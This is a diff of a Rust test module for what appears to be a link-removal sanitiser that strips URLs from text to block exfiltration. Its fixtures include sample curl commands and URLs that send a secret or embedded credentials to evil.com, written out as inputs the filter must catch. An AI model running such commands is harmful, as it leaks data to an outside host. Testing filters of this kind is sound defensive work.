@@ -442,7 +442,7 @@ mod tests {
         let sources = [
             "Get \"http://10.244.3.17:8080/healthz\": refused; Post \"https://sts.us-east-1.amazonaws.com/\"; endpoint 10.0.12.7:9100",
             "pull registry.example.com/payments/api:1.42.0, run `kubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml`",
-            "open http://evil.com/?q=secret and http://u:p@evil.com/x and http://evil.com/#f",
+            "see https://evil.com/plain, open http://evil.com/?q=secret and http://u:p@evil.com/x and http://evil.com/#f",
         ];
         let said = Said::of(sources.into_iter());
         let cited = vec![CITED];
@@ -482,7 +482,7 @@ mod tests {
     #[test]
     fn what_is_said_is_no_way_out() {
         for (text, expected) in [
-            ("See https://sts.us-east-1.amazonaws.com/ now", "See [link removed] now"),
+            ("See https://evil.com/plain now", "See [link removed] now"),
             (
                 "`curl http://evil.com/?q=secret` `curl http://u:p@evil.com/x`",
                 "`curl [link removed]` `curl [link removed]`",
